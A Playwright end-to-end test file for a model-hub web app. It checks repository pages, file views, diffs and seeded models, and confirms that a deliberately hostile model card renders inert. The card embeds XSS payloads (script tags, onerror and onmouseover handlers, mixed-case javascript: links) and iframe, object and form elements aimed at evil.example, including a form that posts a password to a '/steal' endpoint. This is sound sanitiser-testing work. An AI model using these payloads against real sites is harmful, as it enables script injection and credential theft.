// Repository pages against the real server: a seeded model, and a repository this test creates through the API
// with a hostile card (script tags, onerror, javascript: links, iframes, a 1 MB table), a folder of 1 050 files,
// a Python file, a Markdown file, an image, a safetensors file, two commits and a tag. Each page passes the
// accessibility checks; screenshots in light, dark and phone width go to test-results/screenshots.
import type { Page } from "@playwright/test";
import { accessibilityProblems, expect, screenshot, test } from "./fixtures";
import { commit, createRepo, newWriter, TINY_PNG, tinySafetensors } from "./repo-api";

const MANY = 1050;
const TABLE_ROW = '| cell | <img src="docs/pic.png" onerror="window.pwned=3"> | [x](javascript:window.pwned=4) |\n';
const HOSTILE_CARD = `---
license: apache-2.0
pipeline_tag: text-classification
language:
- en
---
# Hostile card

<script>window.pwned = 1</script>
<img src="docs/pic.png" alt="picture" onerror="window.pwned = 2" onload="window.pwned = 2">
<a href="javascript:window.pwned=5">js link</a> · <a href="JaVaScRiPt:window.pwned=6">mixed case</a>
<iframe src="https://evil.example/frame"></iframe>
<object data="https://evil.example/o"></object>
<form action="https://evil.example/steal"><input name="password" value="x"><button>Send</button></form>
<div onmouseover="window.pwned = 7" style="position:fixed;inset:0">hover me</div>

See the [guide](docs/guide.md) and the [code](src/model.py).

- [x] done
- [ ] not yet

\`\`\`python
import torch
print("hello")
\`\`\`

| a | b | c |
|---|---|---|
${TABLE_ROW.repeat(Math.ceil(1_000_000 / TABLE_ROW.length))}`;

let repoId = "";
let first = "";
let second = "";

test.describe.configure({ mode: "serial" });

test.beforeAll(async ({ request }) => {
  test.setTimeout(180_000);
  const { user, token } = await newWriter(request, "w1pages");
  repoId = `${user}/cards`;
  await createRepo(request, token, "cards");
  const api = `/api/models/${repoId}`;
  first = await commit(request, token, api, "Add the card and files", [
    { path: "README.md", content: HOSTILE_CARD },
    { path: "src/model.py", content: "import torch\n\n\ndef forward(x):\n    return x * 2\n" },
    { path: "config.json", content: '{\n  "model_type": "bert",\n  "hidden_size": 8\n}\n' },
    { path: "docs/guide.md", content: "# Guide\n\nBack to the [card](../README.md).\n\n![pic](pic.png)\n" },
    { path: "docs/pic.png", content: TINY_PNG },
    { path: "weights/model.safetensors", content: tinySafetensors() },
    ...Array.from({ length: MANY }, (_, i) => ({
      path: `many/file-${String(i).padStart(4, "0")}.txt`,
      content: `${i}\n`,
    })),
  ]);
  const tag = await request.post(`${api}/tag/main`, {
    headers: { Authorization: `Bearer ${token}` },
    data: { tag: "v1" },
  });
  expect(tag.ok()).toBe(true);
  second = await commit(request, token, api, "Triple the output", [
    { path: "src/model.py", content: "import torch\n\n\ndef forward(x):\n    return x * 3\n" },
    { path: "NOTES.md", content: "Added after v1\n" },
  ]);
});

function watchForAttacks(page: Page): string[] {
  const dialogs: string[] = [];
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  return dialogs;
}

async function shoot(page: Page, name: string): Promise<void> {
  await screenshot(page, `repo-${name}-light`);
  await page.emulateMedia({ colorScheme: "dark" });
  await page.evaluate(() => document.documentElement.setAttribute("data-theme", "dark"));
  await screenshot(page, `repo-${name}-dark`);
  await page.evaluate(() => document.documentElement.setAttribute("data-theme", "light"));
  await page.emulateMedia({ colorScheme: "light" });
  const size = page.viewportSize();
  await page.setViewportSize({ width: 390, height: 800 });
  await screenshot(page, `repo-${name}-phone`);
  const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
  expect(overflow, `${name}: the page scrolls sideways at phone width`).toBeLessThanOrEqual(1);
  if (size) await page.setViewportSize(size);
}

test("a hostile card renders inert and fast", async ({ page, guard: _ }) => {
  test.setTimeout(90_000);
  const dialogs = watchForAttacks(page);
  const started = Date.now();
  await page.goto(`/${repoId}`);
  await expect(page.getByRole("heading", { level: 1, name: repoId, exact: true })).toBeVisible();
  const card = page.locator(".markdown-body");
  await expect(card.getByRole("heading", { level: 2, name: "Hostile card" })).toBeVisible();
  const elapsed = Date.now() - started;
  expect(elapsed, "time to the rendered card").toBeLessThan(5000);
  // Interactive: the tabs answer at once while the big card is on the page.
  await page.locator(".markdown-body").hover();
  expect(await page.evaluate(() => (window as unknown as { pwned?: number }).pwned)).toBeUndefined();
  expect(dialogs).toEqual([]);
  const unsafe = await card.evaluate((root) => {
    const found: string[] = [];
    for (const element of root.querySelectorAll("*")) {
      // The site's own copy button on code blocks (card-code-copy.ts, added after sanitising) is the one button.
      const ours = element.tagName === "BUTTON" && element.parentElement?.classList.contains("card-code-bar");
      if (/^(SCRIPT|IFRAME|OBJECT|EMBED|FORM|BUTTON|STYLE)$/.test(element.tagName) && !ours)
        found.push(element.tagName);
      for (const attribute of element.attributes)
        if (attribute.name.startsWith("on") || attribute.name === "style" || /javascript:/i.test(attribute.value))
          found.push(`${element.tagName} ${attribute.name}=${attribute.value}`);
    }
    return found;
  });
  expect(unsafe).toEqual([]);
  await expect(card.getByText("hover me")).toBeVisible();
  // Relative image and links point at the repository.
  await expect(card.getByRole("img", { name: "picture" })).toHaveAttribute(
    "src",
    `/${repoId}/resolve/${second}/docs/pic.png`,
  );
  await expect(card.getByRole("link", { name: "guide" })).toHaveAttribute(
    "href",
    `/${repoId}/blob/${second}/docs/guide.md`,
  );
  await expect(card.locator("pre code .tok-keyword").first()).toHaveText("import");
  await expect(card.locator('input[type="checkbox"][disabled]')).toHaveCount(2);
  // The front matter is not text; the 1 MB card shows its start and offers the rest.
  await expect(card).not.toContainText("pipeline_tag");
  // Its three fields are the header's chips (license, task, language), not repeated raw in a metadata table.
  await expect(page.getByText(/^Metadata \(/)).toHaveCount(0);
  await expect(page.getByRole("list", { name: "Tags" }).getByRole("link", { name: /apache-2\.0/ })).toBeVisible();
  const showAll = page.getByRole("button", { name: /Show the whole model card \(\d{3,4} KB\)/ });
  await expect(showAll).toBeVisible();
  const previewRows = await card.locator("tr").count();
  // Header chips from the card and tags.
  await expect(page.getByRole("link", { name: "License: apache-2.0" })).toBeVisible();
  await expect(page.getByRole("link", { name: "Text Classification" })).toHaveAttribute(
    "href",
    "/tasks/text-classification",
  );
  expect(await accessibilityProblems(page)).toEqual([]);
  await shoot(page, "card");
  // The rest of the card is read and rendered on request, still inert.
  await showAll.click();
  await expect(showAll).toHaveCount(0);
  await expect.poll(() => card.locator("tr").count(), { timeout: 30_000 }).toBeGreaterThan(previewRows * 5);
  expect(await card.locator("script, iframe, [onerror]").count()).toBe(0);
  expect(await page.evaluate(() => (window as unknown as { pwned?: number }).pwned)).toBeUndefined();
});

test("files: folders, breadcrumbs, last commits, pagination and the revision picker", async ({ page, guard: _ }) => {
  await page.goto(`/${repoId}`);
  await page.getByRole("link", { name: "Files" }).click();
  await expect(page).toHaveURL(`/${repoId}/tree/main`);
  const table = page.locator(".file-table");
  await expect(table.getByRole("link", { name: "NOTES.md" })).toBeVisible();
  await expect(table.getByRole("row", { name: /config\.json/ })).toContainText("Add the card and files");
  await expect(table.getByRole("row", { name: /src\// })).toContainText("Triple the output");
  expect(await accessibilityProblems(page)).toEqual([]);
  await shoot(page, "files");

  await table.getByRole("link", { name: "many/" }).click();
  await expect(page).toHaveURL(`/${repoId}/tree/main/many`);
  await expect(page.getByText(`1–100 of ${MANY.toLocaleString("en")} entries`)).toBeVisible();
  await expect(table.getByRole("link", { name: "file-0000.txt" })).toBeVisible();
  await page.getByRole("button", { name: "Next page" }).click();
  await expect(page.getByText(`101–200 of ${MANY.toLocaleString("en")} entries`)).toBeVisible();
  await expect(table.getByRole("link", { name: "file-0100.txt" })).toBeVisible();
  await expect(table.getByRole("row", { name: /file-0100\.txt/ })).toContainText("Add the card and files", {
    timeout: 30_000, // each entry's last commit is a git walk: slow when the machine is busy
  });
  await page.getByRole("navigation", { name: "Folder" }).getByRole("link", { name: "cards" }).click();
  await expect(page).toHaveURL(`/${repoId}/tree/main`);

  // The tag v1 is the first commit: NOTES.md is not there yet.
  await page.getByLabel("Revision").selectOption("v1");
  await expect(page).toHaveURL(`/${repoId}/tree/v1`);
  await expect(table.getByRole("link", { name: "README.md" })).toBeVisible();
  await expect(table.getByRole("link", { name: "NOTES.md" })).toHaveCount(0);
});

test("file views: code, Markdown, image, safetensors header, raw and download", async ({ page, guard: _ }) => {
  await page.goto(`/${repoId}/blob/main/src/model.py`);
  const code = page.getByRole("figure", { name: "src/model.py" });
  await expect(code.locator(".tok-keyword").first()).toHaveText("import");
  await expect(code).toContainText("return x * 3");
  const raw = page.getByRole("link", { name: "Raw" });
  const download = page.getByRole("link", { name: "Download" });
  const rawBody = await (await page.request.get((await raw.getAttribute("href")) ?? "")).text();
  expect(rawBody).toBe("import torch\n\n\ndef forward(x):\n    return x * 3\n");
  expect(await download.getAttribute("href")).toContain("download=true");
  expect(await accessibilityProblems(page)).toEqual([]);
  await shoot(page, "blob-code");

  await page.goto(`/${repoId}/blob/main/docs/guide.md`);
  await expect(page.locator(".markdown-body").getByRole("heading", { name: "Guide" })).toBeVisible();
  await expect(page.locator(".markdown-body").getByRole("link", { name: "card" })).toHaveAttribute(
    "href",
    `/${repoId}/blob/main/README.md`,
  );
  const image = page.locator(".markdown-body img");
  await expect(image).toHaveAttribute("src", `/${repoId}/resolve/main/docs/pic.png`);
  await expect.poll(() => image.evaluate((img) => (img as HTMLImageElement).naturalWidth)).toBe(1);

  await page.goto(`/${repoId}/blob/main/docs/pic.png`);
  await expect
    .poll(() => page.getByRole("img", { name: "pic.png" }).evaluate((img) => (img as HTMLImageElement).naturalWidth))
    .toBe(1);

  await page.goto(`/${repoId}/blob/main/weights/model.safetensors`);
  await expect(page.getByRole("heading", { name: "Safetensors header" })).toBeVisible();
  await expect(page.getByText("2 tensors, 6 parameters (F32: 6)")).toBeVisible();
  await expect(page.getByRole("row", { name: /layer\.weight F32 \[2, 2\]/ })).toBeVisible();
  expect(await accessibilityProblems(page)).toEqual([]);
  await shoot(page, "blob-safetensors");
});

test("history and a commit's diff", async ({ page, guard: _ }) => {
  await page.goto(`/${repoId}/commits/main`);
  const list = page.locator(".commit-list");
  await expect(list.getByRole("listitem")).toHaveCount(3);
  await expect(list.getByRole("listitem").first()).toContainText("Triple the output");
  await expect(page.getByText("3 commits")).toBeVisible();
  await expect(list.getByRole("link", { name: "Add the card and files" })).toHaveAttribute(
    "href",
    `/${repoId}/commit/${first}`,
  );
  expect(await accessibilityProblems(page)).toEqual([]);
  await shoot(page, "history");

  await list.getByRole("link", { name: "Triple the output" }).click();
  await expect(page).toHaveURL(`/${repoId}/commit/${second}`);
  await expect(page.getByRole("heading", { level: 2, name: "Triple the output" })).toBeVisible();
  await expect(page.getByText("2 files changed")).toBeVisible();
  const diff = page.getByRole("region", { name: "src/model.py" });
  await expect(diff.locator(".diff-del")).toHaveText("-    return x * 2");
  await expect(diff.locator(".diff-add")).toHaveText("+    return x * 3");
  await expect(page.getByRole("region", { name: "NOTES.md" })).toContainText("Added");
  expect(await accessibilityProblems(page)).toEqual([]);
  await shoot(page, "commit");

  // The diff route answers a missing revision with the hub's error, not a 500.
  const missing = await page.request.get(`/api/models/${repoId}/diff/${"0".repeat(40)}`);
  expect(missing.status()).toBe(404);
});

test("a seeded model: card, sidebar, files and the old /models/ address", async ({ page, guard: _ }) => {
  const id = "meta-llama/Llama-3.1-8B-Instruct";
  await page.goto(`/models/${id}`);
  await expect(page).toHaveURL(`/${id}`);
  await expect(page.getByRole("heading", { level: 1, name: id, exact: true })).toBeVisible();
  await expect(page.locator(".markdown-body")).toContainText("Hubkit seed stand-in");
  for (const heading of ["Use this model", "Inference providers", "Try it"])
    await expect(page.getByRole("heading", { level: 2, name: heading })).toBeVisible();
  await page.getByRole("button", { name: "Use this model" }).click();
  await page.getByRole("menuitem", { name: "Hugging Face clients and git" }).click();
  await expect(page.getByRole("figure", { name: "Python with HF_ENDPOINT" })).toContainText(
    `os.environ["HF_ENDPOINT"] = "${new URL(page.url()).origin}"`,
  );
  await expect(page.getByRole("figure", { name: "git clone" })).toContainText(
    `git clone ${new URL(page.url()).origin}/${id}`,
  );
  await page.keyboard.press("Escape");
  await expect(page.getByText(/^Loading/)).toHaveCount(0);
  expect(await accessibilityProblems(page)).toEqual([]);
  await shoot(page, "seeded-model");
  await page.getByRole("link", { name: "Files" }).click();
  await expect(page.locator(".file-table").getByRole("link", { name: "config.json", exact: true })).toBeVisible();
  await page.locator(".file-table").getByRole("link", { name: "config.json", exact: true }).click();
  await expect(page.getByRole("figure", { name: "config.json" })).toContainText('"model_type"');
});

test("a seeded GGUF model: GGUF files feed the local-apps picker and show their header", async ({ page, guard: _ }) => {
  const models: Array<{ id: string }> = await (await page.request.get("/api/models?library=gguf&limit=5")).json();
  test.skip(models.length === 0, "no GGUF model in the seed");
  const id = models[0].id;
  await page.goto(`/${id}`);
  const files = page.getByRole("region", { name: "Quantized weights (GGUF)" });
  const buttons = files.getByRole("button");
  await expect(buttons.first()).toBeVisible();
  const last = buttons.last();
  const name = (await last.textContent()) ?? "";
  await last.click();
  // The file chosen in the sidebar is the one the local apps' commands use ("Use this model" → an app).
  await page.getByRole("button", { name: "Use this model" }).click();
  await page.getByRole("menu").getByRole("menuitem").filter({ hasText: "llama.cpp" }).first().click();
  await expect(page.getByLabel("GGUF file")).toHaveValue(name);
  await page.keyboard.press("Escape");
  await files.getByRole("link", { name: `Header of ${name}` }).click();
  await expect(page.getByRole("heading", { name: "GGUF header" })).toBeVisible();
  await expect(page.getByRole("row", { name: /general\.architecture/ })).toBeVisible();
  expect(await accessibilityProblems(page)).toEqual([]);
});

test("unknown sub-pages and reserved names are not repositories", async ({ page, guard: _ }) => {
  await page.goto(`/${repoId}/settingz`);
  await expect(page.getByRole("heading", { level: 1, name: "Page not found" })).toBeVisible();
  await page.goto("/tasks/a/b");
  await expect(page.getByRole("heading", { level: 1, name: "Page not found" })).toBeVisible();
});
